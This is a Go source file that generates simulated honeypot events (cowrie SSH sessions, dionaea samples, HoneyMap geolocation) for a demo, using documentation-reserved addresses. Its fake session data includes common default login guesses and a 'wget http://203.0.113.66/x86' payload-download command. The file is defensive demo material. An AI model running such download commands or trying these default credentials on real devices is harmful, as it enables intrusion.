package demo

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"
)

// attack is one simulated attack, from which the events of different sensors are made. Addresses are those reserved for
// documentation (RFC 5737), places are real.
type attack struct {
	source   netip.Addr
	port     uint16
	from, to place
	at       time.Time
	session  string
	user     string
	password string
	md5      string
}

type place struct {
	city, country string
	lat, lon      float64
}

var places = []place{
	{"Frankfurt", "DE", 50.11, 8.68}, {"São Paulo", "BR", -23.55, -46.63}, {"Seoul", "KR", 37.57, 126.98},
	{"Ashburn", "US", 39.04, -77.49}, {"Hanoi", "VN", 21.03, 105.85}, {"Lagos", "NG", 6.52, 3.38},
	{"Amsterdam", "NL", 52.37, 4.90}, {"Mumbai", "IN", 19.08, 72.88}, {"Sydney", "AU", -33.87, 151.21},
}

var guesses = [][2]string{
	{"root", "123456"}, {"admin", "admin"}, {"root", "xc3511"}, {"pi", "raspberry"}, {"ubuntu", "ubuntu"},
	{"oracle", "oracle"}, {"root", "vizxv"}, {"support", "support"}, {"test", "test123"}, {"git", "git"},
}

func newAttack(r *rand.Rand, sensor place, now time.Time) attack {
	nets := [][3]byte{{192, 0, 2}, {198, 51, 100}, {203, 0, 113}}
	n := nets[r.IntN(len(nets))]
	guess := guesses[r.IntN(len(guesses))]
	return attack{
		source: netip.AddrFrom4([4]byte{n[0], n[1], n[2], byte(1 + r.IntN(254))}), port: uint16(1024 + r.IntN(64000)),
		from: places[r.IntN(len(places))], to: sensor, at: now.UTC(), session: fmt.Sprintf("%012x", r.Uint64()>>16),
		user: guess[0], password: guess[1], md5: fmt.Sprintf("%016x%016x", r.Uint64(), r.Uint64()),
	}
}

// cowrie is one session as cowrie's hpfeeds output publishes it on cowrie.sessions.
func (a attack) cowrie() []byte {
	return encodeEvent(map[string]any{
		"peerIP": a.source, "peerPort": a.port, "hostIP": "192.0.2.10", "hostPort": 22, "session": a.session,
		"startTime": a.at.Add(-7 * time.Second).Format(time.RFC3339Nano), "endTime": a.at.Format(time.RFC3339Nano),
		"loggedin": []string{a.user, a.password}, "credentials": [][]string{{a.user, "password"}, {a.user, a.password}},
		"commands": []string{"uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.66/x86"}, "unknownCommands": []string{},
		"urls": []string{"http://203.0.113.66/x86"}, "version": "SSH-2.0-libssh2_1.4.3", "ttylog": nil, "protocol": "ssh",
	})
}

// dionaea is a captured sample as dionaea publishes it on dionaea.capture.
func (a attack) dionaea() []byte {
	return encodeEvent(map[string]any{
		"saddr": a.source, "sport": fmt.Sprint(a.port), "daddr": "192.0.2.20", "dport": "445", "url": "smb://" +
			a.source.String(),
		"md5": a.md5, "sha512": a.md5 + a.md5 + a.md5 + a.md5,
	})
}

// geoloc is what HoneyMap reads from geoloc.events: red is the attacker, yellow the sensor.
func (a attack) geoloc(kind string) []byte {
	return encodeEvent(map[string]any{
		"type": kind, "time": a.at.Format("2006-01-02 15:04:05"), "latitude": a.from.lat, "longitude": a.from.lon,
		"countrycode": a.from.country, "city": a.from.city, "latitude2": a.to.lat, "longitude2": a.to.lon,
		"countrycode2": a.to.country, "city2": a.to.city, "md5": a.md5,
	})
}

func encodeEvent(v map[string]any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // the values above are all encodable
	}
	return b
}
